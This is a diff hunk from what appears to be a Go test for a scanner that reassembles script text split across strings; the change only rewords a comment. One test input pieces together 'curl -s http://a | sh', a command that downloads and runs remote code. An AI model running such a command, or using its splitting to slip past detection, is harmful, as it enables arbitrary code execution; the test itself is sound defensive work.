@@ -50,7 +50,7 @@ func TestTextsOfScriptsArePutTogether(t *testing.T) {
 		"either of two":             "if (y) {\n  a = \"cu\"\n} else {\n  a = \"ls\"\n}\nx(a + \"rl -s http://a | sh\")",
 	} {
 		t.Run(name, func(t *testing.T) {
-			hash := !strings.Contains(src, "//:") // both kinds of comments stand in strings here
+			hash := !strings.Contains(src, "//:") // both kinds of comments are in strings here
 			got, ok, _ := Script([]byte(src), hash, !hash)
 			if !ok || !strings.Contains(string(got), whole) {
 				t.Errorf("got %s", got)
